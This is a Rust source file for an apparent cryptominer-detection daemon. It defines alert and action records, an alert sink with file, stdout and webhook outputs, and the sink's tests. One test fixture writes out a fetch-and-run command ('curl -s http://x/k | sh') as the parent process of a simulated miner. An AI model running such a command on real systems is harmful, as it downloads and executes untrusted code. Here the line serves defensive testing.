//! Alert and action records, and the sink that writes them.
//!
//! The JSON field names are an interface: SIEM rules, log pipelines and the
//! webhook receiver parse them. Add fields, never rename or retype one.
//! Every alert goes, as one line, to stdout (the container log), to an
//! append-only file that survives restarts, and optionally to a webhook.

use std::io::{self, Write};
use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::detect::{ChainLink, Rule, Severity, Signal, Verdict};
use crate::event::{ProvenanceVerdict, Reason};
use crate::response::{Outcome, Reported};
use crate::sinks::alert_file::AlertFile;
use crate::sinks::config::AlertsConfig;
use crate::sinks::line_writer::{self, LineOut, LineWriter};
use crate::sinks::metrics::Metrics;
use crate::sinks::webhook::{Webhook, WebhookError};
use crate::time::{Mono, WallClock};

#[derive(Debug, thiserror::Error)]
pub enum AlertError {
    #[error("creating alert directory {} failed: {source}; create it or choose another --alerts-file", path.display())]
    CreateDir {
        path: PathBuf,
        #[source]
        source: io::Error,
    },
    #[error("opening alert file {} failed: {source}; check the path and that it is writable by root", path.display())]
    Open {
        path: PathBuf,
        #[source]
        source: io::Error,
    },
    #[error("writing alert file {} failed: {source}", path.display())]
    Write {
        path: PathBuf,
        #[source]
        source: io::Error,
    },
    #[error("alert file {}: short write ({wrote} of {len} bytes; disk full?)", path.display())]
    ShortWrite {
        path: PathBuf,
        wrote: usize,
        len: usize,
    },
    #[error("writing alert to stdout failed: {0}")]
    Stdout(#[source] io::Error),
    #[error("serialising alert failed: {0}")]
    Serialize(#[from] serde_json::Error),
    #[error(transparent)]
    Webhook(#[from] WebhookError),
    #[error("starting an alert writer thread failed: {0}")]
    Spawn(#[source] io::Error),
}

/// `"kind": "alert"`, a type so a record with another kind cannot parse as
/// an alert.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum AlertKind {
    #[default]
    Alert,
}

/// `"kind": "action"`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum ActionKind {
    #[default]
    Action,
}

/// One alert, as written to stdout, the alert file and the webhook.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AlertRecord {
    /// When the detector decided, RFC 3339 UTC with milliseconds.
    pub time: String,
    /// Always `"alert"`: alerts and actions share the stream and the file.
    pub kind: AlertKind,
    /// The rule that fired, snake_case (`pool_protocol_unverified`, …).
    pub rule: Rule,
    /// `debug`, `low`, `medium`, `high` or `critical`.
    pub severity: Severity,
    /// Thread that produced the deciding evidence.
    pub pid: u32,
    /// Process (thread group) the alert is about; the response acts on it.
    pub tgid: u32,
    /// Parent process.
    pub ppid: u32,
    /// Kernel command name (at most 15 bytes, set by the process itself:
    /// not evidence of identity).
    pub comm: String,
    /// Absolute executable path if known, else the path given to execve;
    /// `null` if neither is known.
    pub exe: Option<String>,
    /// Arguments as passed to execve, `argv[0]` first.
    pub cmdline: Vec<String>,
    /// Real user id.
    pub uid: u32,
    /// cgroup path, `null` if unknown.
    pub cgroup: Option<String>,
    /// cgroup v2 id (the inode of the cgroup directory).
    pub cgroup_id: u64,
    /// Container id from the cgroup path; absent outside containers.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub container_id: Option<String>,
    /// Kubernetes pod UID from the cgroup path; absent outside pods.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub pod_uid: Option<String>,
    /// Verdict on the executable; `null` if it was not checked in time.
    pub provenance: Option<AlertProvenance>,
    /// Signals that led to the alert, oldest first.
    pub evidence: Vec<AlertEvidence>,
    /// Alert time minus the earliest of process start and first evidence.
    pub latency_ms: u64,
    /// Other processes the alert covers (workers, the rest of the tree or
    /// cgroup); the response acts on them too.
    pub members: Vec<u32>,
    /// The process's ancestors, oldest first: what started it. Exited
    /// ancestors are kept for `detector.chain.retain_exited_secs`.
    #[serde(default)]
    pub chain: Vec<AlertChainLink>,
    /// Only the nearest `detector.chain.max_depth` ancestors are listed;
    /// omitted when the chain is complete.
    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
    pub chain_truncated: bool,
    /// Observe mode: what the response would have done (`kill 1234`, …).
    pub would: Vec<String>,
    /// Enforce mode: what the response did.
    pub actions: Vec<String>,
    /// Persistence that names the miner (cron, systemd, rc.local,
    /// ld.so.preload, shell profiles, fresh authorized_keys); omitted when
    /// none was found. Reported, never changed. The daemon scans after the
    /// alert is out and reports findings in a `"action":"footholds"` action
    /// record; this field stays for files written by earlier versions.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub footholds: Vec<crate::response::footholds::Foothold>,
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AlertProvenance {
    /// `verified` or `unverified`.
    pub verdict: ProvenanceVerdict,
    /// Kebab-case reasons (`not-packaged`, `memfd`, `writable-dir`, …).
    pub reasons: Vec<Reason>,
    /// Hex SHA-256 of the executable, `null` if it could not be read.
    pub sha256: Option<String>,
    /// Owning package, when verified by a package database.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub package: Option<String>,
    /// Which database vouched: the host's, the image's own, or the
    /// allowlist.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub vouched_by: Option<crate::event::VouchedBy>,
}

/// One ancestor in an alert's `chain`.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AlertChainLink {
    pub pid: u32,
    /// Kernel command name (set by the process itself).
    pub comm: String,
    /// Absolute executable path if known, else the path given to execve.
    pub exe: Option<String>,
    /// Leading arguments, at most `detector.chain.argv_max_bytes` bytes.
    pub argv: Vec<String>,
    /// `argv` was cut (by the bound, or by the kernel's capture limit).
    pub argv_truncated: bool,
    /// Real user id.
    pub uid: u32,
    /// Process start, RFC 3339 UTC with milliseconds.
    pub start: String,
    /// It had exited when the alert was made.
    pub exited: bool,
    /// It listened on a TCP socket (`listen(2)` seen, inherited at fork,
    /// or held at the daemon's start): a network-facing service.
    pub listening: bool,
    /// Its listening addresses (`127.0.0.1:8080`, `[::]:22`), where known.
    pub listen: Vec<String>,
    /// Known from the start-up sweep of /proc, not from its fork: its place
    /// in the chain is /proc's parent at start (a re-parented process shows
    /// init instead of the shell that started it).
    pub best_effort: bool,
}

impl AlertChainLink {
    pub fn from_link(l: &ChainLink, clock: &WallClock) -> AlertChainLink {
        let start = if l.start_boottime_ns != 0 {
            clock.boottime_to_mono(l.start_boottime_ns)
        } else {
            l.start_time
        };
        AlertChainLink {
            pid: l.pid,
            comm: l.comm.clone(),
            exe: l.exe.clone(),
            argv: l.argv.clone(),
            argv_truncated: l.argv_truncated,
            uid: l.uid,
            start: clock.rfc3339(start),
            exited: l.exited.is_some(),
            listening: l.listening,
            listen: l
                .listen
                .iter()
                .map(|&(ip, port)| std::net::SocketAddr::new(ip, port).to_string())
                .collect(),
            best_effort: l.best_effort,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct AlertEvidence {
    /// `pool_protocol`, `pool_port`, `cpu_sustained`, `unverified_exec`, …
    pub signal: Signal,
    /// When the signal was seen, RFC 3339 UTC with milliseconds.
    pub time: String,
    /// Human detail (`connect 1.2.3.4:3333`, `0.98 cores for 30 s`, …).
    pub detail: String,
}

impl AlertRecord {
    pub fn from_verdict(
        v: &Verdict,
        clock: &WallClock,
        container_id: Option<String>,
        pod_uid: Option<String>,
    ) -> AlertRecord {
        AlertRecord {
            time: clock.rfc3339(v.time),
            kind: AlertKind::Alert,
            rule: v.rule,
            severity: v.severity,
            pid: v.pid,
            tgid: v.tgid,
            ppid: v.ppid,
            comm: v.comm.clone(),
            exe: v.exe.clone(),
            cmdline: v.cmdline.clone(),
            uid: v.uid,
            cgroup: v.cgroup.clone(),
            cgroup_id: v.cgroup_id,
            container_id,
            pod_uid,
            provenance: v.provenance.as_ref().map(|p| AlertProvenance {
                verdict: p.verdict,
                reasons: p.reasons.clone(),
                sha256: p.sha256.clone(),
                package: p.package.clone(),
                vouched_by: p.vouched_by.clone(),
            }),
            evidence: v
                .evidence
                .iter()
                .map(|e| AlertEvidence {
                    signal: e.signal,
                    time: clock.rfc3339(e.time),
                    detail: e.detail.clone(),
                })
                .collect(),
            latency_ms: v.latency_ms,
            members: v.members.clone(),
            chain: v
                .chain
                .iter()
                .map(|l| AlertChainLink::from_link(l, clock))
                .collect(),
            chain_truncated: v.chain_truncated,
            would: Vec::new(),
            actions: Vec::new(),
            footholds: Vec::new(),
        }
    }
}

/// One response action, taken or refused, written through the same sinks
/// as alerts. What observe mode would do is listed in its alert (`would`),
/// not here.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct ActionRecord {
    /// When the action completed, RFC 3339 UTC with milliseconds.
    pub time: String,
    /// Always `"action"`.
    pub kind: ActionKind,
    pub action: Reported,
    /// Process (tgid) acted on.
    pub target: u32,
    pub result: Outcome,
    /// Why: the rule, or why it was skipped or failed.
    pub reason: String,
    /// Verdict to completed action.
    pub latency_ms: u64,
    /// `"action":"footholds"` only: persistence that names the miner
    /// (cron, systemd, rc.local, ld.so.preload, shell profiles, fresh
    /// authorized_keys). Reported, never changed.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub footholds: Vec<crate::response::footholds::Foothold>,
}

impl ActionRecord {
    pub fn new(
        time: Mono,
        clock: &WallClock,
        action: Reported,
        target: u32,
        result: Outcome,
        reason: impl Into<String>,
        latency_ms: u64,
    ) -> ActionRecord {
        ActionRecord {
            time: clock.rfc3339(time),
            kind: ActionKind::Action,
            action,
            target,
            result,
            reason: reason.into(),
            latency_ms,
            footholds: Vec::new(),
        }
    }
}

/// Writes alert and action lines to every configured destination without
/// waiting on any of them: stdout and the file each write on their own
/// thread behind a bounded queue ([`LineWriter`]), the webhook on its own.
/// Cloned into the response thread, which writes the action lines that
/// follow an alert; one queue per output keeps them after their alert.
#[derive(Clone)]
pub struct AlertSink {
    inner: Arc<SinkInner>,
}

struct SinkInner {
    stdout: Option<LineWriter>,
    file: Option<LineWriter>,
    webhook: Mutex<Option<Webhook>>,
    metrics: Arc<Metrics>,
}

/// Standard output as a line output.
struct Stdout(Box<dyn Write + Send>);

impl LineOut for Stdout {
    fn write_line(&mut self, line: &[u8]) -> Result<(), String> {
        self.0
            .write_all(line)
            .and_then(|()| self.0.flush())
            .map_err(|e| AlertError::Stdout(e).to_string())
    }
}

impl AlertSink {
    /// Opens the alert file (creating it, mode 0600, and its directory,
    /// mode 0700; repairing a torn last line) and starts the writer and
    /// webhook threads, as configured.
    pub fn new(cfg: &AlertsConfig, metrics: Arc<Metrics>) -> Result<AlertSink, AlertError> {
        Self::with_stdout(cfg, metrics, Box::new(io::stdout()))
    }

    /// As `new`, with another standard output (tests).
    pub fn with_stdout(
        cfg: &AlertsConfig,
        metrics: Arc<Metrics>,
        stdout: Box<dyn Write + Send>,
    ) -> Result<AlertSink, AlertError> {
        let lost = metrics.alert_lines_lost.clone();
        let file = match cfg.file.as_deref() {
            Some(p) => Some(
                LineWriter::spawn(
                    "file",
                    AlertFile::open(p)?,
                    line_writer::QUEUE,
                    lost.clone(),
                )
                .map_err(AlertError::Spawn)?,
            ),
            None => None,
        };
        let stdout = if cfg.stdout {
            Some(
                LineWriter::spawn("stdout", Stdout(stdout), line_writer::QUEUE, lost)
                    .map_err(AlertError::Spawn)?,
            )
        } else {
            None
        };
        let webhook = match &cfg.webhook_url {
            Some(url) => Some(Webhook::start(
                url,
                cfg,
                metrics.webhook_deliveries.clone(),
            )?),
            None => None,
        };
        Ok(AlertSink {
            inner: Arc::new(SinkInner {
                stdout,
                file,
                webhook: Mutex::new(webhook),
                metrics,
            }),
        })
    }

    /// Queues one alert everywhere and counts it (`minerwatch_alerts_total`,
    /// detection latency). Never waits: an output that cannot keep up loses
    /// the line and counts it (`minerwatch_alert_lines_lost_total`).
    pub fn emit(&self, rec: &AlertRecord) -> Result<(), AlertError> {
        self.inner
            .metrics
            .observe_alert(rec.rule.name(), rec.severity.name(), rec.latency_ms);
        self.write(rec)
    }

    /// Queues one action record everywhere and counts it
    /// (`minerwatch_actions_total{action,result}`).
    pub fn emit_action(&self, rec: &ActionRecord) -> Result<(), AlertError> {
        self.inner
            .metrics
            .actions
            .with_label_values(&[rec.action.name(), rec.result.name()])
            .inc();
        self.write(rec)
    }

    fn write<T: Serialize>(&self, rec: &T) -> Result<(), AlertError> {
        // Escapes C1 controls and invisible characters too: the file is
        // read with `cat` and `tail -f` as often as with `jq`.
        let line: Arc<[u8]> = Arc::from(crate::text::to_json_line(rec)?);
        for w in [&self.inner.stdout, &self.inner.file].into_iter().flatten() {
            w.send(line.clone());
        }
        if let Some(hook) = lock(&self.inner.webhook).as_ref() {
            hook.enqueue(line);
        }
        Ok(())
    }

    /// For shutdown: lets the writers finish what is queued and gives queued
    /// webhook posts up to `deadline` to go out.
    pub fn flush(&self, deadline: Duration) -> Result<(), AlertError> {
        let started = std::time::Instant::now();
        for w in [&self.inner.stdout, &self.inner.file].into_iter().flatten() {
            let left = deadline.saturating_sub(started.elapsed());
            if !w.close(left) {
                log::warn!("alert lines still queued at shutdown were not all written");
            }
        }
        if let Some(mut hook) = lock(&self.inner.webhook).take() {
            let left = deadline.saturating_sub(started.elapsed());
            if !hook.close(left) {
                log::warn!(
                    "alert webhook: queued alerts not delivered within {deadline:?} of shutdown"
                );
            }
        }
        Ok(())
    }
}

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|p| p.into_inner())
}

#[cfg(test)]
pub(crate) mod tests {
    use std::os::unix::fs::PermissionsExt;

    use super::*;
    use crate::detect::Evidence;
    use crate::event::Provenance;

    pub(crate) fn verdict() -> Verdict {
        Verdict {
            time: Mono::from_secs(12),
            rule: Rule::PoolProtocolUnverified,
            severity: Severity::Critical,
            pid: 4243,
            tgid: 4242,
            ppid: 1,
            comm: "kworkerds".into(),
            exe: Some("/tmp/.x/kworkerds".into()),
            cmdline: vec![
                "/tmp/.x/kworkerds".into(),
                "-o".into(),
                "pool.example:3333".into(),
            ],
            uid: 33,
            cgroup_id: 7,
            cgroup: Some("/kubepods/besteffort/pod1234/abcd".into()),
            exe_dev: 2049,
            exe_ino: 99,
            start_boottime_ns: 1,
            provenance: Some(Provenance {
                verdict: ProvenanceVerdict::Unverified,
                reasons: vec![Reason::NotPackaged, Reason::HiddenDir],
                sha256: Some("ab".repeat(32)),
                path: None,
                package: None,
                vouched_by: None,
            }),
            evidence: vec![Evidence {
                signal: Signal::PoolProtocol,
                time: Mono::from_millis(11_500),
                detail: "login to 10.0.0.1:3333".into(),
            }],
            latency_ms: 500,
            members: vec![4250],
            chain: vec![
                ChainLink {
                    pid: 900,
                    comm: "java".into(),
                    exe: Some("/usr/lib/jvm/java-17/bin/java".into()),
                    argv: vec!["java".into(), "-jar".into(), "app.jar".into()],
                    argv_truncated: false,
                    uid: 33,
                    start_boottime_ns: 0,
                    start_time: Mono::from_secs(1),
                    exited: None,
                    listening: true,
                    listen: vec![("::".parse().expect("ip"), 8080)],
                    best_effort: true,
                },
                ChainLink {
                    pid: 4200,
                    comm: "sh".into(),
                    exe: Some("/usr/bin/dash".into()),
                    argv: vec!["sh".into(), "-c".into(), "curl -s http://x/k | sh".into()],
                    argv_truncated: true,
                    uid: 33,
                    start_boottime_ns: 0,
                    start_time: Mono::from_secs(11),
                    exited: Some(Mono::from_secs(11)),
                    listening: false,
                    listen: vec![],
                    best_effort: false,
                },
            ],
            chain_truncated: false,
        }
    }

    /// Keys of a JSON object in the order written (serde_json's `Value`
    /// sorts them).
    pub(crate) fn top_level_keys(line: &str) -> Vec<String> {
        struct Keys(Vec<String>);
        impl<'de> Deserialize<'de> for Keys {
            fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Keys, D::Error> {
                struct V;
                impl<'de> serde::de::Visitor<'de> for V {
                    type Value = Keys;
                    fn expecting(&self, f: &mut std::fmt::Formatter) -> std::fmt::Result {
                        f.write_str("an object")
                    }
                    fn visit_map<A: serde::de::MapAccess<'de>>(
                        self,
                        mut m: A,
                    ) -> Result<Keys, A::Error> {
                        let mut keys = Vec::new();
                        while let Some(k) = m.next_key::<String>()? {
                            m.next_value::<serde::de::IgnoredAny>()?;
                            keys.push(k);
                        }
                        Ok(Keys(keys))
                    }
                }
                d.deserialize_map(V)
            }
        }
        serde_json::from_str::<Keys>(line).expect("a JSON object").0
    }

    #[test]
    fn alert_record_has_the_documented_fields() {
        let clock = WallClock::new();
        let rec = AlertRecord::from_verdict(&verdict(), &clock, Some("abcd".into()), None);
        let line = serde_json::to_string(&rec).expect("serialise");
        let v: serde_json::Value = serde_json::from_str(&line).expect("parse");
        assert_eq!(
            top_level_keys(&line),
            [
                "time",
                "kind",
                "rule",
                "severity",
                "pid",
                "tgid",
                "ppid",
                "comm",
                "exe",
                "cmdline",
                "uid",
                "cgroup",
                "cgroup_id",
                "container_id",
                "provenance",
                "evidence",
                "latency_ms",
                "members",
                "chain",
                "would",
                "actions"
            ]
        );
        assert_eq!(
            top_level_keys(&serde_json::to_string(&rec.chain[0]).expect("link")),
            [
                "pid",
                "comm",
                "exe",
                "argv",
                "argv_truncated",
                "uid",
                "start",
                "exited",
                "listening",
                "listen",
                "best_effort"
            ]
        );
        assert_eq!(v["chain"][0]["listen"], serde_json::json!(["[::]:8080"]));
        assert_eq!(v["chain"][0]["listening"], true);
        assert_eq!(v["chain"][0]["best_effort"], true);
        assert_eq!(v["chain"][1]["exited"], true);
        assert_eq!(v["chain"][1]["start"], clock.rfc3339(Mono::from_secs(11)));
        assert!(v.get("chain_truncated").is_none(), "only when cut");
        assert_eq!(v["kind"], "alert");
        assert_eq!(v["rule"], "pool_protocol_unverified");
        assert_eq!(v["severity"], "critical");
        assert_eq!(v["provenance"]["verdict"], "unverified");
        assert_eq!(
            v["provenance"]["reasons"],
            serde_json::json!(["not-packaged", "hidden-dir"])
        );
        assert_eq!(v["evidence"][0]["signal"], "pool_protocol");
        assert_eq!(v["time"], clock.rfc3339(Mono::from_secs(12)));
        assert!(
            v["time"]
                .as_str()
                .is_some_and(|t| t.ends_with('Z') && t.contains('T'))
        );
        let back: AlertRecord = serde_json::from_value(v).expect("round trip");
        assert_eq!(back, rec);
    }

    #[test]
    fn action_record_fields() {
        let clock = WallClock::new();
        let rec = ActionRecord::new(
            Mono::from_secs(1),
            &clock,
            Reported::Kill,
            4242,
            Outcome::Ok,
            "pool_protocol_unverified",
            12,
        );
        let line = serde_json::to_string(&rec).expect("serialise");
        let v: serde_json::Value = serde_json::from_str(&line).expect("parse");
        assert_eq!(
            top_level_keys(&line),
            [
                "time",
                "kind",
                "action",
                "target",
                "result",
                "reason",
                "latency_ms"
            ]
        );
        assert_eq!(v["kind"], "action");
        assert_eq!(v["result"], "ok");
        assert_eq!(
            serde_json::from_str::<ActionRecord>(&line).expect("back"),
            rec
        );
    }

    #[test]
    fn file_is_append_only_0600_survives_reopen_and_cuts_a_torn_line() {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join("sub/alerts.jsonl");
        let metrics = Arc::new(Metrics::new().expect("metrics"));
        let cfg = AlertsConfig {
            stdout: false,
            file: Some(path.clone()),
            ..AlertsConfig::default()
        };
        let rec = AlertRecord::from_verdict(&verdict(), &WallClock::new(), None, None);
        {
            let sink = AlertSink::new(&cfg, metrics.clone()).expect("sink");
            sink.emit(&rec).expect("emit");
            sink.flush(Duration::from_secs(5)).expect("flush");
        }
        // A crash mid-line in an earlier life of the file.
        std::fs::OpenOptions::new()
            .append(true)
            .open(&path)
            .expect("open")
            .write_all(b"{\"torn")
            .expect("write");
        {
            let sink = AlertSink::new(&cfg, metrics.clone()).expect("reopen");
            sink.emit(&rec).expect("emit");
            let act = ActionRecord::new(
                Mono(1),
                &WallClock::new(),
                Reported::Kill,
                4242,
                Outcome::Refused,
                "protected",
                0,
            );
            sink.emit_action(&act).expect("emit action");
            sink.flush(Duration::from_secs(5)).expect("flush");
        }
        let text = std::fs::read_to_string(&path).expect("read");
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 3, "{text}");
        for l in &lines {
            serde_json::from_str::<serde_json::Value>(l).expect("every line is whole JSON");
        }
        assert_eq!(
            serde_json::from_str::<AlertRecord>(lines[0]).expect("alert line"),
            rec
        );
        assert_eq!(
            serde_json::from_str::<AlertRecord>(lines[1]).expect("alert line"),
            rec
        );
        assert!(lines[2].contains("\"kind\":\"action\""));
        let torn = std::fs::read_to_string(crate::sinks::alert_file::torn_path(&path))
            .expect("the torn bytes are kept");
        assert_eq!(torn, "{\"torn\n");
        let mode = std::fs::metadata(&path).expect("stat").permissions().mode() & 0o777;
        assert_eq!(mode, 0o600);
        let dir_mode = std::fs::metadata(path.parent().expect("dir"))
            .expect("stat")
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(dir_mode, 0o700);
        let count = metrics
            .alerts
            .with_label_values(&["pool_protocol_unverified", "critical"])
            .get();
        assert_eq!(count, 2);
        assert_eq!(
            metrics
                .actions
                .with_label_values(&["kill", "refused"])
                .get(),
            1
        );
    }

    /// Standard output that never accepts a byte (a container log nobody
    /// drains) until the test lets go.
    struct Stuck(std::sync::mpsc::Receiver<()>);
    impl Write for Stuck {
        fn write(&mut self, _: &[u8]) -> io::Result<usize> {
            let _ = self.0.recv();
            Err(io::Error::other("released"))
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn a_stuck_output_never_blocks_emit_and_its_losses_are_counted() {
        let metrics = Arc::new(Metrics::new().expect("metrics"));
        let (release, rx) = std::sync::mpsc::channel();
        let sink = AlertSink::with_stdout(
            &AlertsConfig::default(),
            metrics.clone(),
            Box::new(Stuck(rx)),
        )
        .expect("sink");
        let rec = AlertRecord::from_verdict(&verdict(), &WallClock::new(), None, None);
        let n = 5000u64;
        let t0 = std::time::Instant::now();
        for _ in 0..n {
            sink.emit(&rec).expect("emit");
        }
        let took = t0.elapsed();
        assert!(took < Duration::from_secs(2), "emit waited: {took:?}");
        let lost = metrics
            .alert_lines_lost
            .with_label_values(&["stdout", "queue_full"])
            .get();
        // One line is being written (stuck), QUEUE wait behind it.
        let queued = line_writer::QUEUE as u64;
        assert!(
            (n - queued - 1..=n - queued).contains(&lost),
            "lost {lost} of {n}"
        );
        assert_eq!(
            metrics
                .alerts
                .with_label_values(&["pool_protocol_unverified", "critical"])
                .get(),
            n
        );
        drop(release);
        sink.flush(Duration::from_secs(5)).expect("flush");
    }

    #[test]
    fn a_full_disk_is_counted_and_other_outputs_carry_on() {
        // /dev/full: every write fails with ENOSPC, as on a full disk.
        let metrics = Arc::new(Metrics::new().expect("metrics"));
        let (tx, rx) = std::sync::mpsc::channel::<Vec<u8>>();
        struct Collect(std::sync::mpsc::Sender<Vec<u8>>);
        impl Write for Collect {
            fn write(&mut self, b: &[u8]) -> io::Result<usize> {
                let _ = self.0.send(b.to_vec());
                Ok(b.len())
            }
            fn flush(&mut self) -> io::Result<()> {
                Ok(())
            }
        }
        let cfg = AlertsConfig {
            file: Some("/dev/full".into()),
            ..AlertsConfig::default()
        };
        let sink =
            AlertSink::with_stdout(&cfg, metrics.clone(), Box::new(Collect(tx))).expect("sink");
        let rec = AlertRecord::from_verdict(&verdict(), &WallClock::new(), None, None);
        for _ in 0..3 {
            sink.emit(&rec).expect("emit");
        }
        sink.flush(Duration::from_secs(5)).expect("flush");
        assert_eq!(rx.try_iter().count(), 3, "stdout got every alert");
        assert_eq!(
            metrics
                .alert_lines_lost
                .with_label_values(&["file", "io_error"])
                .get(),
            3
        );
    }
}
